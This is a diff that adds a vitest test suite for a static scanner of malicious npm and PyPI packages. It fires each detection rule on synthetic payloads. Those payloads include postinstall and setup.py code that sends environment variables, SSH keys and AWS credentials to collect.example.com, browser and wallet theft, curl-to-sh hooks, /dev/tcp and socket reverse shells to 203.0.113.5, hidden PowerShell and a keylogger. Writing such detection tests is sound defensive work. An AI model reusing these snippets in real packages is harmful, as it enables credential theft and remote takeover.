@@ -1,0 +1,792 @@
+// The static engine on synthetic packages: every rule fires on a made-up payload at the right file and line,
+// the near-miss that legitimate code writes does not hold, and scoring honours its thresholds.
+import { createHash } from 'node:crypto'
+import { beforeAll, describe, expect, it } from 'vitest'
+import { DEFAULT_ARCHIVE_LIMITS } from '../../src/core/archive-limits.ts'
+import type { Artifact, Ecosystem } from '../../src/core/ecosystem.ts'
+import { DEFAULT_THRESHOLDS } from '../../src/core/verdict.ts'
+import { npmEcosystem } from '../../src/protocols/npm/ecosystem.ts'
+import { pypiEcosystem } from '../../src/protocols/pypi/ecosystem.ts'
+import { analyzeArtifact, collectFacts, initEngine, severityOf, type ScanReport, type SignalRecord } from '../../src/scanning/engine.ts'
+import { RULES, RULESET_VERSION, ruleById } from '../../src/scanning/rules/ruleset.ts'
+import { sdistTarGz, wheelOf } from '../helpers/python-dists.ts'
+import { npmTarball } from '../helpers/tarballs.ts'
+
+beforeAll(async () => {
+  await initEngine()
+})
+
+// ---------------------------------------------------------------------------------------------
+// Building and reading synthetic packages
+
+interface Built {
+  readonly artifact: Artifact
+  readonly eco: Ecosystem
+}
+
+async function npmArtifact(files: Record<string, string>, manifest: Record<string, unknown> = {}, version = '1.0.0'): Promise<Built> {
+  return { artifact: await npmEcosystem.readArtifact(await npmTarball('synthetic-pkg', version, files, manifest), DEFAULT_ARCHIVE_LIMITS), eco: npmEcosystem }
+}
+
+async function npm(files: Record<string, string>, manifest: Record<string, unknown> = {}, version = '1.0.0'): Promise<ScanReport> {
+  const { artifact, eco } = await npmArtifact(files, manifest, version)
+  return analyzeArtifact(artifact, eco)
+}
+
+async function sdist(files: Record<string, string>): Promise<ScanReport> {
+  const bytes = await sdistTarGz('synthetic-pkg', '1.0.0', files)
+  const artifact = await pypiEcosystem.readArtifact(bytes, DEFAULT_ARCHIVE_LIMITS, { filename: 'synthetic-pkg-1.0.0.tar.gz' })
+  expect(artifact.format).toBe('sdist-tar')
+  return analyzeArtifact(artifact, pypiEcosystem)
+}
+
+async function wheel(files: Record<string, string>): Promise<ScanReport> {
+  const bytes = await wheelOf('synthetic-pkg', '1.0.0', files)
+  const artifact = await pypiEcosystem.readArtifact(bytes, DEFAULT_ARCHIVE_LIMITS, { filename: 'synthetic_pkg-1.0.0-py3-none-any.whl' })
+  expect(artifact.format).toBe('wheel')
+  return analyzeArtifact(artifact, pypiEcosystem)
+}
+
+const postinstall = (command: string) => ({ scripts: { postinstall: command } })
+const setupPy = (body = '') => `from setuptools import setup\n${body}setup(name='synthetic-pkg', version='1.0.0')\n`
+
+/** Rules that contributed to the score. */
+const weighted = (r: ScanReport) => r.signals.filter((s) => s.weight > 0).map((s) => s.rule).sort()
+/** The scoring signal of a rule (at most one per rule carries weight). */
+const scoring = (r: ScanReport, rule: string): SignalRecord | undefined => r.signals.find((s) => s.rule === rule && s.weight > 0)
+
+/** A dense, deterministic base64 literal (a stand-in for an embedded payload). */
+function denseBase64(length: number): string {
+  let out = ''
+  for (let i = 0; out.length < length; i++) out += createHash('sha256').update(`synthetic-${i}`).digest('base64').replace(/=+$/, '')
+  return out.slice(0, length)
+}
+
+// Synthetic snippets shared by several tests ------------------------------------------------------
+
+/** Sends the whole environment with a request it never names: `https.request(…).write(…)`. */
+const ENV_STEALER = `const https = require('https')
+https.request({ hostname: 'collect.example.com', method: 'POST' }).write(JSON.stringify(process.env))
+`
+/** The same through a variable holding the request. */
+const ENV_STEALER_NAMED = `const https = require('https')
+const req = https.request({ hostname: 'collect.example.com', method: 'POST' })
+req.write(JSON.stringify(process.env))
+req.end()
+`
+/** `eval` of a base64 literal ("console.log(1)"). */
+const DECODE_EVAL = `eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())\n`
+const HIDDEN_PS = 'powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA='
+
+// ---------------------------------------------------------------------------------------------
+// Every rule of the ruleset, fired by a synthetic payload
+
+interface PositiveCase {
+  readonly rule: string
+  readonly name: string
+  readonly scan: () => Promise<ScanReport>
+  readonly file?: string
+  readonly line?: number
+  readonly weight: number
+  readonly verdict: 'publish' | 'hold' | 'reject'
+}
+
+const POSITIVE: PositiveCase[] = [
+  {
+    rule: 'exfiltrates-environment',
+    name: 'postinstall script writes JSON.stringify(process.env) to https.request(…)',
+    scan: () => npm({ 'x.js': ENV_STEALER }, postinstall('node x.js')),
+    file: 'x.js',
+    line: 2,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'exfiltrates-environment',
+    name: 'the same through a named request object',
+    scan: () => npm({ 'x.js': ENV_STEALER_NAMED }, postinstall('node x.js')),
+    file: 'x.js',
+    line: 3,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'exfiltrates-environment',
+    name: 'setup.py posts dict(os.environ) with requests',
+    scan: () =>
+      sdist({
+        'setup.py': `import os
+import requests
+from setuptools import setup
+requests.post("https://collect.example.com/e", data=dict(os.environ))
+setup(name='synthetic-pkg', version='1.0.0')
+`,
+      }),
+    file: 'setup.py',
+    line: 4,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'exfiltrates-credentials',
+    name: 'install script reads ~/.ssh/id_rsa and sends it',
+    scan: () =>
+      npm(
+        {
+          'x.js': `const fs = require('fs'), os = require('os'), path = require('path'), https = require('https')
+const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8')
+const req = https.request({ hostname: 'collect.example.com', method: 'POST' })
+req.end(key)
+`,
+        },
+        postinstall('node x.js'),
+      ),
+    file: 'x.js',
+    line: 4,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'exfiltrates-credentials',
+    name: 'setup.py posts ~/.aws/credentials',
+    scan: () =>
+      sdist({
+        'setup.py': `import os, requests
+from setuptools import setup
+creds = open(os.path.expanduser('~/.aws/credentials')).read()
+requests.post('https://collect.example.com/a', data=creds)
+setup(name='synthetic-pkg', version='1.0.0')
+`,
+      }),
+    file: 'setup.py',
+    line: 4,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'steals-browser-or-wallet-data',
+    name: 'one file lists a wallet folder, another sends it',
+    scan: () =>
+      npm(
+        {
+          'x.js': `require('./send')(require('./grab')())\n`,
+          'grab.js': `const fs = require('fs')
+const dir = process.env.APPDATA + '/Exodus/exodus.wallet'
+module.exports = () => fs.readdirSync(dir)
+`,
+          'send.js': `const https = require('https')
+module.exports = (data) => https.request('https://collect.example.com/').end(String(data))
+`,
+        },
+        postinstall('node x.js'),
+      ),
+    file: 'grab.js',
+    line: 2,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'steals-browser-or-wallet-data',
+    name: 'a Python module decrypts Chrome Login Data',
+    scan: () =>
+      sdist({
+        'setup.py': setupPy(),
+        'synthetic_pkg/__init__.py': `import os, win32crypt
+path = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')
+def grab(blob):
+    return win32crypt.CryptUnprotectData(blob, None, None, None, 0)
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    line: 2,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'beacons-system-info',
+    name: 'install script resolves <hostname>.probe.example.com',
+    scan: () =>
+      npm(
+        {
+          'x.js': `const os = require('os')
+const dns = require('dns')
+dns.lookup(os.hostname() + '.probe.example.com', () => {})
+`,
+        },
+        postinstall('node x.js'),
+      ),
+    file: 'x.js',
+    line: 3,
+    weight: 70,
+    verdict: 'hold',
+  },
+  {
+    rule: 'exfiltration-endpoint',
+    name: 'install code posts to a Discord webhook',
+    scan: () =>
+      npm(
+        {
+          'x.js': `const https = require('https')
+const hook = 'https://discord.com/api/webhooks/123456/abcdef'
+https.request(hook, { method: 'POST' }).end('installed')
+`,
+        },
+        postinstall('node x.js'),
+      ),
+    file: 'x.js',
+    line: 2,
+    weight: 90,
+    verdict: 'hold',
+  },
+  {
+    rule: 'hides-network-destination',
+    name: 'install code fetches a base64-decoded URL',
+    scan: () =>
+      npm(
+        {
+          'x.js': `const https = require('https')
+const target = Buffer.from('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuY29tLw==', 'base64').toString()
+https.get(target)
+`,
+        },
+        postinstall('node x.js'),
+      ),
+    file: 'x.js',
+    line: 3,
+    weight: 80,
+    verdict: 'hold',
+  },
+  {
+    rule: 'shell-exfiltration',
+    name: 'postinstall runs nslookup $(whoami).probe.example.com',
+    scan: () => npm({}, postinstall('nslookup $(whoami).probe.example.com')),
+    file: '[postinstall hook]',
+    line: 1,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'shell-exfiltration',
+    name: 'setup.py runs the same through os.system',
+    scan: () => sdist({ 'setup.py': `import os\nfrom setuptools import setup\nos.system("nslookup $(whoami).probe.example.com")\nsetup(name='synthetic-pkg', version='1.0.0')\n` }),
+    file: 'setup.py',
+    line: 3,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'install-time-network',
+    name: 'install script downloads a release archive from an ordinary host',
+    scan: () => npm({ 'x.js': `const https = require('https')\nhttps.get('https://downloads.example.com/tool-v1.tar.gz', (res) => res.resume())\n` }, postinstall('node x.js')),
+    file: 'x.js',
+    line: 2,
+    weight: 25,
+    verdict: 'publish',
+  },
+  {
+    rule: 'decodes-and-executes',
+    name: 'install script evals Buffer.from(…, "base64")',
+    scan: () => npm({ 'x.js': DECODE_EVAL }, postinstall('node x.js')),
+    file: 'x.js',
+    line: 1,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'decodes-and-executes',
+    name: 'setup.py execs base64.b64decode(…)',
+    scan: () => sdist({ 'setup.py': `import base64\nfrom setuptools import setup\nexec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))\nsetup(name='synthetic-pkg', version='1.0.0')\n` }),
+    file: 'setup.py',
+    line: 3,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'downloads-and-executes',
+    name: 'postinstall pipes curl into sh',
+    scan: () => npm({}, postinstall('curl -s http://get.example.com/a.sh | sh')),
+    file: '[postinstall hook]',
+    line: 1,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'downloads-and-executes',
+    name: 'a wheel .pth file (run at every interpreter start) pipes curl into sh',
+    scan: () => wheel({ 'synthetic_pkg/__init__.py': '', 'synthetic_pkg-init.pth': `import os; os.system('curl -s http://get.example.com/a.sh | sh')\n` }),
+    file: 'synthetic_pkg-init.pth',
+    line: 1,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'remote-shell',
+    name: 'postinstall opens bash -i >& /dev/tcp/…',
+    scan: () => npm({}, postinstall('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')),
+    file: '[postinstall hook]',
+    line: 1,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'remote-shell',
+    name: 'setup.py dup2s a socket onto stdin and spawns a pty',
+    scan: () =>
+      sdist({
+        'setup.py': `import socket, os, pty
+from setuptools import setup
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("203.0.113.5", 4444))
+os.dup2(s.fileno(), 0)
+pty.spawn("/bin/sh")
+setup(name='synthetic-pkg', version='1.0.0')
+`,
+      }),
+    file: 'setup.py',
+    line: 5,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'hidden-powershell',
+    name: 'setup.py runs powershell -w hidden -enc through os.system',
+    scan: () => sdist({ 'setup.py': `import os\nfrom setuptools import setup\nos.system("${HIDDEN_PS}")\nsetup(name='synthetic-pkg', version='1.0.0')\n` }),
+    file: 'setup.py',
+    line: 3,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'establishes-persistence',
+    name: 'install script appends a launcher to ~/.bashrc',
+    scan: () =>
+      npm(
+        {
+          'x.js': `const fs = require('fs')
+const os = require('os')
+fs.appendFileSync(os.homedir() + '/.bashrc', '\\nnode ~/.cache/agent.js &\\n')
+`,
+        },
+        postinstall('node x.js'),
+      ),
+    file: 'x.js',
+    line: 3,
+    weight: 70,
+    verdict: 'hold',
+  },
+  {
+    rule: 'captures-input',
+    name: 'the main module ships the clipboard to a server every few seconds',
+    scan: () =>
+      npm({
+        'index.js': `const clipboardy = require('clipboardy')
+const https = require('https')
+setInterval(() => { https.request('https://collect.example.com/c').end(clipboardy.readSync()) }, 5000)
+`,
+      }),
+    file: 'index.js',
+    line: 3,
+    weight: 80,
+    verdict: 'hold',
+  },
+  {
+    rule: 'captures-input',
+    name: 'a Python package logs keys and posts them',
+    scan: () =>
+      sdist({
+        'setup.py': setupPy(),
+        'synthetic_pkg/__init__.py': `from pynput import keyboard
+import requests
+def on_press(key):
+    requests.post('https://collect.example.com/k', data=str(key))
+keyboard.Listener(on_press=on_press).start()
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    line: 5,
+    weight: 80,
+    verdict: 'hold',
+  },
+  {
+    rule: 'obfuscated-code',
+    name: 'install script full of obfuscator.io _0x identifiers',
+    scan: () => npm({ 'x.js': Array.from({ length: 20 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)} = ${i};`).join('\n') }, postinstall('node x.js')),
+    file: 'x.js',
+    line: 1,
+    weight: 70,
+    verdict: 'hold',
+  },
+  {
+    rule: 'encoded-payload',
+    name: 'a 400-character base64 literal next to child_process in an install script',
+    scan: () => npm({ 'x.js': `const cp = require('child_process')\nconst data = '${denseBase64(400)}'\ncp.execSync('node --version')\nmodule.exports = data\n` }, postinstall('node x.js')),
+    file: 'x.js',
+    line: 2,
+    weight: 60,
+    verdict: 'hold',
+  },
+  {
+    rule: 'bundled-executable',
+    name: 'postinstall runs a bundled ELF binary',
+    scan: () => npm({ 'bin/helper': `\x7fELF\x02\x01\x01\x00${'x'.repeat(60)}` }, postinstall('./bin/helper')),
+    file: 'bin/helper',
+    weight: 40,
+    verdict: 'publish',
+  },
+  {
+    rule: 'dependency-confusion-version',
+    name: 'version 99.0.0 with an install hook',
+    scan: () => npm({}, postinstall('node index.js'), '99.0.0'),
+    weight: 40,
+    verdict: 'publish',
+  },
+]
+
+describe('each rule fires on a synthetic payload', () => {
+  it.each(POSITIVE.map((c) => [`${c.rule}: ${c.name}`, c] as const))('%s', async (_, c) => {
+    const r = await c.scan()
+    const signal = scoring(r, c.rule)
+    expect(signal, `signals: ${JSON.stringify(r.signals.map((s) => [s.rule, s.weight, s.message]))}`).toBeDefined()
+    expect(signal).toMatchObject({ weight: c.weight, severity: severityOf(c.weight) })
+    if (c.file !== undefined) expect(signal!.file).toBe(c.file)
+    if (c.line !== undefined) expect(signal!.line).toBe(c.line)
+    expect(r.verdict).toBe(c.verdict)
+  })
+
+  it('reports install hooks as information that does not count', async () => {
+    const r = await npm({ 'x.js': 'console.log("built")\n' }, { scripts: { preinstall: 'node x.js', postinstall: 'node x.js' } })
+    const hooks = r.signals.filter((s) => s.rule === 'install-hook')
+    expect(hooks.map((s) => s.message)).toEqual(['preinstall: node x.js', 'postinstall: node x.js'])
+    expect(hooks.every((s) => s.weight === 0 && s.severity === 'info')).toBe(true)
+    expect(r).toMatchObject({ verdict: 'publish', score: 0 })
+    const py = await sdist({ 'setup.py': setupPy() })
+    expect(py.signals).toEqual([expect.objectContaining({ rule: 'install-hook', weight: 0, message: 'setup.py: python setup.py install' })])
+  })
+
+  it('has a positive case for every rule of the ruleset', () => {
+    const covered = new Set([...POSITIVE.map((c) => c.rule), 'install-hook'])
+    expect(RULES.map((r) => r.id).filter((id) => !covered.has(id))).toEqual([])
+  })
+})
+
+// ---------------------------------------------------------------------------------------------
+// Near misses: what legitimate packages write with the same capabilities
+
+describe('near misses legitimate code writes', () => {
+  it('does not count a child process inheriting the environment', async () => {
+    const r = await npm(
+      {
+        'x.js': `const { spawn } = require('child_process')
+const child = spawn(process.execPath, ['build.js'], { env: process.env, stdio: 'inherit' })
+child.on('exit', (code) => process.exit(code))
+`,
+      },
+      postinstall('node x.js'),
+    )
+    expect(r.signals.filter((s) => s.rule === 'exfiltrates-environment')).toEqual([])
+    expect(r).toMatchObject({ verdict: 'publish', score: 0 })
+  })
+
+  it('publishes a GitHub client that sends GITHUB_TOKEN to its API at run time', async () => {
+    const r = await npm({
+      'index.js': `const https = require('https')
+
+function listRepos(user) {
+  const req = https.request({ hostname: 'api.github.com', path: '/users/' + user + '/repos', headers: { authorization: 'Bearer ' + process.env.GITHUB_TOKEN } })
+  req.end()
+  return req
+}
+
+module.exports = { listRepos }
+`,
+    })
+    expect(r.verdict).toBe('publish')
+    // at most the weak "one secret-looking variable" form, never the environment itself
+    for (const s of r.signals.filter((s) => s.rule === 'exfiltrates-environment')) {
+      expect(s.message).toMatch(/secret-looking environment variable/)
+      expect(s.weight).toBeLessThanOrEqual(20)
+    }
+  })
+
+  it('publishes a Python package that runs builds with os.environ and calls GitHub with its token', async () => {
+    const r = await sdist({
+      'setup.py': setupPy(),
+      'synthetic_pkg/__init__.py': `import os, subprocess
+import requests
+
+def build(cmd):
+    return subprocess.run(cmd, env=os.environ.copy(), check=True)
+
+def repos(user):
+    token = os.environ.get("GITHUB_TOKEN")
+    return requests.get("https://api.github.com/users/%s/repos" % user, headers={"Authorization": "token %s" % token}).json()
+`,
+    })
+    expect(weighted(r)).toEqual([])
+    expect(r.verdict).toBe('publish')
+  })
+
+  it('does not treat a UTF-8 decoder built on String.fromCharCode as decoding a payload', async () => {
+    const decoder = `function decodeUtf8(bytes) {
+  let out = ''
+  for (let i = 0; i < bytes.length; i++) {
+    const code = bytes[i] < 0x80 ? bytes[i] : ((bytes[i] & 0x1f) << 6) | (bytes[++i] & 0x3f)
+    out += String.fromCharCode(code)
+  }
+  return out
+}
+module.exports = { decodeUtf8 }
+console.log(decodeUtf8([104, 105]))
+`
+    expect((await npm({ 'index.js': decoder })).signals).toEqual([])
+    const atInstall = await npm({ 'x.js': decoder }, postinstall('node x.js'))
+    expect(weighted(atInstall)).toEqual([])
+    expect(atInstall.verdict).toBe('publish')
+  })
+
+  it('publishes a setup.py that reads its version with exec(open(…).read())', async () => {
+    const r = await sdist({
+      'setup.py': `from setuptools import setup
+about = {}
+exec(open('synthetic_pkg/version.py').read(), about)
+setup(name='synthetic-pkg', version=about['__version__'])
+`,
+      'synthetic_pkg/__init__.py': 'from .version import __version__\n',
+      'synthetic_pkg/version.py': "__version__ = '1.0.0'\n",
+    })
+    expect(weighted(r)).toEqual([])
+    expect(r.verdict).toBe('publish')
+  })
+
+  it('publishes a setup.py that calls PowerShell openly for a Windows build step', async () => {
+    const r = await sdist({
+      'setup.py': `import subprocess, sys
+from setuptools import setup
+if sys.platform == 'win32':
+    subprocess.check_call(['powershell', '-NoProfile', '-Command', 'Get-ChildItem'])
+setup(name='synthetic-pkg', version='1.0.0')
+`,
+    })
+    expect(weighted(r)).toEqual([])
+  })
+
+  it('does not run README text: a curl | sh line in documentation is not code', async () => {
+    const r = await npm({ 'README.md': '# synthetic\n\nInstall the CLI:\n\n    curl -s http://get.example.com/a.sh | sh\n\nOr with PowerShell:\n\n    powershell -w hidden -enc AAAAAAAAAAAAAAAAAAAAAAAA\n' })
+    expect(r.signals).toEqual([])
+    expect(r.verdict).toBe('publish')
+  })
+
+  it('ignores a webhook URL in a file that cannot send anything', async () => {
+    const r = await npm({ 'config.js': `module.exports = { exampleWebhook: 'https://discord.com/api/webhooks/123456/abcdef' }\n` }, postinstall('node config.js'))
+    expect(weighted(r)).toEqual([])
+  })
+
+  it('does not follow ordinary data through a local send() helper', async () => {
+    const r = await npm(
+      {
+        'x.js': `const https = require('https')
+function send(d) {
+  const req = https.request({ hostname: 'telemetry.example.com', method: 'POST' })
+  req.write(d)
+  req.end()
+}
+send(JSON.stringify({ event: 'installed', node: process.version }))
+`,
+      },
+      postinstall('node x.js'),
+    )
+    expect(weighted(r)).toEqual(['install-time-network'])
+    expect(r.verdict).toBe('publish')
+  })
+
+  it('does not call minified code or a few _0x names obfuscated', async () => {
+    const few = Array.from({ length: 5 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)} = ${i};`).join('\n')
+    const minified = 'var a=function(b,c){return b+c},d=a(1,2),e=[d,a(d,3)].map(function(f){return f*2});module.exports={a:a,d:d,e:e};'
+    const r = await npm({ 'x.js': few, 'y.js': minified }, { scripts: { preinstall: 'node x.js', postinstall: 'node y.js' } })
+    expect(weighted(r)).toEqual([])
+  })
+
+  it('does not call a long base64 literal a payload when nothing executes it', async () => {
+    const r = await npm({ 'font.js': `module.exports = '${denseBase64(400)}'\n` }, postinstall('node font.js'))
+    expect(weighted(r)).toEqual([])
+  })
+
+  it('weighs a native addon no hook runs as a mere note', async () => {
+    const r = await npm({ 'build/Release/addon.node': `\x7fELF\x02\x01\x01\x00${'x'.repeat(60)}` })
+    expect(scoring(r, 'bundled-executable')).toMatchObject({ weight: 5, file: 'build/Release/addon.node' })
+    expect(r.verdict).toBe('publish')
+  })
+
+  it('accepts calendar versions', async () => {
+    const r = await npm({}, postinstall('node index.js'), '2024.1.0')
+    expect(r.signals.filter((s) => s.rule === 'dependency-confusion-version')).toEqual([])
+  })
+
+  it('publishes a wheel whose .pth files only add paths or run a well-known shim', async () => {
+    const r = await wheel({
+      'synthetic_pkg/__init__.py': '',
+      'synthetic_pkg.pth': 'src\n../vendor\n',
+      'distutils-precedence.pth': "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
+    })
+    expect(weighted(r)).toEqual([])
+    expect(r.signals.filter((s) => s.rule === 'install-hook')).toHaveLength(2)
+  })
+})
+
+// ---------------------------------------------------------------------------------------------
+// Roles: when a file runs decides how much its evidence weighs
+
+describe('roles', () => {
+  it('follows data into a local function: send(JSON.stringify(process.env))', async () => {
+    const r = await npm(
+      {
+        'x.js': `const https = require('https')
+function send(d) {
+  const req = https.request({ hostname: 'collect.example.com', method: 'POST' })
+  req.write(d)
+  req.end()
+}
+send(JSON.stringify(process.env))
+`,
+      },
+      postinstall('node x.js'),
+    )
+    expect(scoring(r, 'exfiltrates-environment')).toMatchObject({ file: 'x.js', line: 7, weight: 100, message: expect.stringContaining('send()') })
+    expect(r.verdict).toBe('hold')
+  })
+
+  it('follows a Python helper that sends its argument', async () => {
+    const r = await sdist({
+      'setup.py': `import os, json, urllib.request
+from setuptools import setup
+def send(payload):
+    urllib.request.urlopen("https://collect.example.com/", data=payload.encode())
+send(json.dumps(dict(os.environ)))
+setup(name='synthetic-pkg', version='1.0.0')
+`,
+    })
+    expect(scoring(r, 'exfiltrates-environment')).toMatchObject({ file: 'setup.py', line: 5, weight: 100 })
+  })
+
+  it('resolves `node .` to the main entry and runs it at install', async () => {
+    const files = { 'lib/main.js': DECODE_EVAL }
+    const manifest = { main: 'lib/main.js' }
+    const installed = await npmArtifact(files, { ...manifest, scripts: { postinstall: 'node .' } })
+    expect(collectFacts(installed.artifact, installed.eco).roles.get('lib/main.js')).toBe('install')
+    const r = analyzeArtifact(installed.artifact, installed.eco)
+    expect(scoring(r, 'decodes-and-executes')).toMatchObject({ file: 'lib/main.js', line: 1, weight: 100 })
+    // without the hook the same file only runs when imported
+    const imported = await npmArtifact(files, manifest)
+    expect(collectFacts(imported.artifact, imported.eco).roles.get('lib/main.js')).toBe('import')
+    expect(scoring(analyzeArtifact(imported.artifact, imported.eco), 'decodes-and-executes')?.weight).toBe(90)
+  })
+
+  it('gives every file of a local require chain the install role', async () => {
+    const files = {
+      'install.js': `require('./lib/a.js')\n`,
+      'lib/a.js': `require('./b')\n`,
+      'lib/b.js': ENV_STEALER,
+      'lib/unused.js': `module.exports = 1\n`,
+    }
+    const { artifact, eco } = await npmArtifact(files, postinstall('node install.js'))
+    const roles = collectFacts(artifact, eco).roles
+    expect(['install.js', 'lib/a.js', 'lib/b.js'].map((p) => roles.get(p))).toEqual(['install', 'install', 'install'])
+    expect(roles.get('lib/unused.js')).toBeUndefined()
+    const r = analyzeArtifact(artifact, eco)
+    expect(scoring(r, 'exfiltrates-environment')).toMatchObject({ file: 'lib/b.js', line: 2, weight: 100 })
+    // install-time-network only ever fires for install-time files
+    expect(scoring(r, 'install-time-network')).toMatchObject({ file: 'lib/b.js' })
+    expect(r.verdict).toBe('hold')
+  })
+
+  it('weighs the same payload less when nothing runs it', async () => {
+    const r = await npm({ 'lib/b.js': DECODE_EVAL })
+    expect(scoring(r, 'decodes-and-executes')).toMatchObject({ file: 'lib/b.js', weight: 40 })
+    expect(r.verdict).toBe('publish')
+  })
+})
+
+// ---------------------------------------------------------------------------------------------
+// Scoring and the report
+
+describe('scoring and the report', () => {
+  it('honours custom thresholds', async () => {
+    const { artifact, eco } = await npmArtifact({ 'x.js': ENV_STEALER }, postinstall('node x.js'))
+    const byDefault = analyzeArtifact(artifact, eco)
+    expect(byDefault).toMatchObject({ verdict: 'hold', score: 125 })
+    expect(byDefault.reasons[0]).toBe(`score 125 ≥ review threshold ${DEFAULT_THRESHOLDS.hold}`)
+    const lenient = analyzeArtifact(artifact, eco, { thresholds: { hold: 126, reject: 500 } })
+    expect(lenient).toMatchObject({ verdict: 'publish', score: 125 })
+    expect(lenient.reasons[0]).toBe('score 125 below review threshold 126')
+    const strict = analyzeArtifact(artifact, eco, { thresholds: { hold: 50, reject: 125 } })
+    expect(strict).toMatchObject({ verdict: 'reject', score: 125 })
+    expect(strict.reasons[0]).toBe('score 125 ≥ reject threshold 125')
+  })
+
+  it('rejects at the default threshold when several critical rules fire', async () => {
+    const r = await npm(
+      {
+        'x.js': `const cp = require('child_process')
+const https = require('https')
+cp.exec(Buffer.from('Y3VybCBodHRwOi8vZ2V0LmV4YW1wbGUuY29tL2Euc2ggfCBzaA==', 'base64').toString())
+https.request('https://discord.com/api/webhooks/1/abc', { method: 'POST' }).end(JSON.stringify(process.env))
+`,
+      },
+      postinstall('node x.js'),
+    )
+    expect(weighted(r)).toEqual(expect.arrayContaining(['decodes-and-executes', 'exfiltrates-environment', 'exfiltration-endpoint']))
+    expect(r.score).toBeGreaterThanOrEqual(DEFAULT_THRESHOLDS.reject)
+    expect(r.verdict).toBe('reject')
+  })
+
+  it('records the ruleset version and explains every signal', async () => {
+    const r = await npm({ 'x.js': ENV_STEALER }, postinstall('node x.js'))
+    expect(r.rulesetVersion).toBe(RULESET_VERSION)
+    expect(r.rulesetVersion).toMatch(/^\d{4}\.\d+\.\d+\+[0-9a-f]{12}$/)
+    expect(r).toMatchObject({ ecosystem: 'npm', name: 'synthetic-pkg', version: '1.0.0', format: 'npm-tarball' })
+    expect(r.signals.length).toBeGreaterThan(0)
+    for (const s of r.signals) {
+      const rule = ruleById(s.rule)!
+      expect(rule, s.rule).toBeDefined()
+      expect(s.title).toBe(rule.title)
+      expect(s.explanation).toBe(rule.explanation)
+      expect(s.explanation.length).toBeGreaterThan(40)
+      expect(s.severity).toBe(s.rule === 'install-hook' ? 'info' : severityOf(s.weight))
+    }
+    const steal = scoring(r, 'exfiltrates-environment')!
+    expect(steal.excerpt).toContain('JSON.stringify(process.env)')
+    expect(r.reasons).toContain(`exfiltrates-environment: ${steal.message}`)
+  })
+
+  it('counts each rule once, with its strongest hit', async () => {
+    const r = await npm(
+      {
+        // a run-time helper nobody calls (weak), and the install script (strong)
+        'lib/util.js': `function run(s) { return eval(Buffer.from(s, 'base64').toString()) }\nmodule.exports = run\n`,
+        'x.js': DECODE_EVAL,
+        'y.js': DECODE_EVAL,
+      },
+      { scripts: { preinstall: 'node x.js', postinstall: 'node y.js' } },
+    )
+    const hits = r.signals.filter((s) => s.rule === 'decodes-and-executes')
+    expect(hits.map((s) => s.file).sort()).toEqual(['lib/util.js', 'x.js', 'y.js'])
+    expect(hits.filter((s) => s.weight > 0)).toEqual([expect.objectContaining({ weight: 100 })])
+    expect(hits.find((s) => s.file === 'lib/util.js')!.weight).toBe(0)
+    expect(r.score).toBe(100)
+    expect(r.score).toBe(r.signals.reduce((sum, s) => sum + s.weight, 0))
+  })
+
+  it('scans a 3 MB minified bundle as text instead of failing, and still finds indicators in it', async () => {
+    const chunk = 'function a(b,c){return b+c}var d=a(1,2),e=[d,a(d,3)].map(function(f){return f*2});'
+    const bundle = chunk.repeat(Math.ceil(3_000_000 / chunk.length))
+    expect(bundle.length).toBeGreaterThanOrEqual(3_000_000)
+    const quiet = await npm({ 'dist/bundle.min.js': bundle })
+    expect(quiet.stats).toMatchObject({ files: 3, parseErrors: 0, textOnly: 1 })
+    expect(quiet).toMatchObject({ verdict: 'publish', score: 0 })
+
+    const loud = await npm({ 'dist/bundle.min.js': `${bundle}var p="${HIDDEN_PS}";` }, postinstall('node dist/bundle.min.js'))
+    expect(loud.stats).toMatchObject({ textOnly: 1, parseErrors: 0 })
+    expect(scoring(loud, 'hidden-powershell')).toMatchObject({ file: 'dist/bundle.min.js', line: 1, weight: 70 })
+    expect(loud.verdict).toBe('hold')
+  })
+})
